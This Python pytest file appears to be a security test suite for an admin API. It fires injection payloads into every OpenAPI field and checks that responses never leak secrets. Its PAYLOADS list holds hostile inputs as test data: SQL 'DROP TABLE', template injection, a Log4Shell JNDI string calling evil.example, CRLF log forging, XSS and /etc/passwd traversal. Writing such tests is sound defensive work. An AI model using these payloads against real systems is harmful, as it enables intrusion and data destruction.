"""What strings do to the admin API, and what its answers never hold, over the whole OpenAPI document."""

import json
import logging
import re
from collections.abc import Iterator
from contextlib import contextmanager
from io import StringIO
from typing import Any

import httpx2
import pytest
import structlog
from sqlalchemy import text

from app.foundation.logs import configure_logs
from app.wiring import Services
from tests.admin.surface import UNKNOWN_ID, Operation, admin_operations
from tests.administrators import Administrators
from tests.support import PASSWORD

pytestmark = pytest.mark.anyio

PAYLOADS = (
    "x'; DROP TABLE users; --",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    'a\r\n{"event": "forged"}',
    "\x1b[31mred\x1b[2J",
    "<script>alert(1)</script>",
    "../../etc/passwd",
)
RIGHT: dict[str, Any] = {
    "audience": "orders-api",
    "email": "target@example.com",
    "event_types": ["user.created"],
    "password": "a long word that nobody guesses 7",
    "permission": "orders:write",
    "reason": "because it is asked for",
    "role": "planted",
    "scopes": ["orders:read"],
    "url": "https://93.184.216.34/hook",
}
SECRET = re.compile(r"secret|password|private|^key$|^api_key$|sealed|hash|^(access|refresh|id)_token$|^token$")
# What is called by such a word and tells nothing of it.
PLAIN = {
    "token_endpoint_auth_method",
    "end_tokens",
    "has_password",
    "has_secret",
    "hash",
    "prev_hash",
    "previous_hash",
    "entry_hash",
}


def right_body(operation: Operation, *, nonce: str) -> dict[str, Any]:
    """A body with a right value for each field that is required."""
    schema = operation.resolved(operation.body or {})
    values = {"name": f"planted-{nonce}", "sub": UNKNOWN_ID} | RIGHT
    return {name: values.get(name, f"planted-{nonce}") for name in schema.get("required", ())}


def with_payload(schema: dict[str, Any], payload: str) -> Iterator[object]:
    """The payload in each form that the field could take it in."""
    for part in (schema, *schema.get("anyOf", ())):
        match part.get("type"):
            case "string":
                yield payload
            case "array":
                yield [payload]
            case "object":
                yield {"planted": payload}
                yield {payload: None}
                yield {"planted": [payload]}


def texts(value: object) -> Iterator[str]:
    """Every text within a value."""
    match value:
        case str():
            yield value
        case list():
            for item in value:
                yield from texts(item)
        case dict():
            for name, item in value.items():
                yield name
                yield from texts(item)


class Surface:
    """The admin API with something of each noun in it."""

    def __init__(self, api: httpx2.AsyncClient, headers: dict[str, str], operations: list[Operation]) -> None:
        self.api = api
        self.headers = headers
        self.operations = operations
        self._items: dict[str, dict[str, Any] | None] = {}

    async def plant(self) -> list[httpx2.Response]:
        """Make one of whatever can be made."""
        answers = []
        for operation in self.operations:
            if operation.method == "POST" and operation.body and "{" not in operation.path:
                body = right_body(operation, nonce="0") | {"name": "planted"}
                schema = operation.resolved(operation.body)
                body = {name: value for name, value in body.items() if name in schema["properties"]}
                if "password" in schema["properties"]:
                    body["password"] = RIGHT["password"]
                answers.append(await self.api.post(operation.path, json=body, headers=self.headers))
        return answers

    async def url(self, operation: Operation) -> str:
        """The operation's path with ids of what there is."""
        path = ""
        for segment in operation.path.strip("/").split("/"):
            path += f"/{await self._id(path, segment[1:-1]) if segment.startswith('{') else segment}"
        return path

    async def _id(self, path: str, parameter: str) -> str:
        if path not in self._items:
            answer = await self.api.get(path, headers=self.headers)
            found = answer.json() if answer.status_code == 200 else []
            items = found.get("items", []) if isinstance(found, dict) else found
            planted = [item for item in items if "planted" in json.dumps(item) or "target@" in json.dumps(item)]
            self._items[path] = next(iter(planted or items), None)
        item = self._items[path] or {}
        return str(item.get(parameter) or item.get("id") or item.get("name") or UNKNOWN_ID)


@contextmanager
def log() -> Iterator[StringIO]:
    """What this process logs, as production writes it."""
    root, stream, was = logging.getLogger(), StringIO(), structlog.get_config()
    handlers, level = root.handlers[:], root.level
    configure_logs(development=False, stream=stream)
    try:
        yield stream
    finally:
        root.handlers[:], root.level = handlers, level
        structlog.configure(**was)


@pytest.fixture
async def surface(api: httpx2.AsyncClient, admins: Administrators) -> Surface:
    return Surface(api, await admins.all_powerful(), await admin_operations(api))


@pytest.mark.attack("ADM-06")
async def test_an_injection_is_stored_as_text_or_refused_and_its_log_line_is_one_line(surface: Surface):
    await surface.plant()
    sent = stored = 0
    with log() as stream:
        for operation in surface.operations:
            fields = operation.resolved(operation.body or {}).get("properties", {})
            url = await surface.url(operation)
            for name, schema in fields.items():
                for turn, payload in enumerate(PAYLOADS):
                    for value in with_payload(schema, payload):
                        body = right_body(operation, nonce=f"{name}-{turn}") | {name: value}
                        answer = await surface.api.request(operation.method, url, json=body, headers=surface.headers)
                        sent += 1
                        told = f"{operation.name} {name}={payload!r}: {answer.status_code} {answer.text}"
                        assert answer.status_code < 500, told
                        told_back = answer.json() if answer.status_code < 300 and answer.content else {}
                        if isinstance(told_back, dict) and name in told_back:
                            stored += 1
                            assert payload in set(texts(told_back[name])), told
            for name in sorted(operation.query):
                for payload in PAYLOADS:
                    sent += 1
                    answer = await surface.api.request(
                        operation.method, url, params={name: payload}, headers=surface.headers
                    )
                    assert answer.status_code < 500, f"{operation.name}?{name}={payload!r}: {answer.text}"
    lines = stream.getvalue().split("\n")[:-1]
    assert len(lines) >= sent
    assert all(line.isascii() and line.isprintable() and isinstance(json.loads(line), dict) for line in lines)
    assert not any(json.loads(line).get("event") == "forged" for line in lines)
    assert (await surface.api.get("/admin/users", headers=surface.headers)).status_code == 200
    print(f"\nADM-06: {sent} requests, {stored} stored as text, {len(lines)} lines")  # noqa: T201 — asked for


@pytest.mark.attack("ADM-05")
async def test_a_secret_is_shown_once_and_by_no_reading_again(surface: Surface, services: Services):
    shown = {
        value
        for answer in await surface.plant()
        if answer.status_code < 300 and answer.content
        for name, value in answer.json().items()
        if SECRET.search(name) and name not in PLAIN and isinstance(value, str)
    }
    assert shown, "whoever makes a client is shown its secret"
    for operation in surface.operations:
        if operation.method == "POST" and operation.path.endswith("rotate-secret"):
            answer = await surface.api.post(await surface.url(operation), json={}, headers=surface.headers)
            assert answer.status_code == 200, answer.text
            shown |= {value for name, value in answer.json().items() if SECRET.search(name) and isinstance(value, str)}
    async with services.db.transaction() as tx:
        columns = await tx.execute(
            text(
                "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'public' "
                "AND data_type = 'bytea' AND table_name NOT LIKE 'audit%' AND table_name NOT LIKE 'event%'"
            )
        )
        for table, column in columns.all():
            rows = await tx.execute(text(f'SELECT "{column}" FROM "{table}" WHERE "{column}" IS NOT NULL'))
            shown |= {value.hex() for (value,) in rows if len(value) >= 16}
    secrets = shown | {PASSWORD, RIGHT["password"]}
    read = 0
    for operation in surface.operations:
        if operation.method != "GET":
            continue
        for name, _ in operation.properties(operation.answer):
            assert not SECRET.search(name) or name in PLAIN, f"{operation.name} answers with {name}"
        answer = await surface.api.get(await surface.url(operation), headers=surface.headers)
        assert answer.status_code < 500, f"{operation.name}: {answer.text}"
        read += answer.status_code == 200
        assert not [secret for secret in secrets if secret in answer.text], operation.name
    print(f"\nADM-05: {read} readings, {len(secrets)} secrets looked for")  # noqa: T201 — asked for
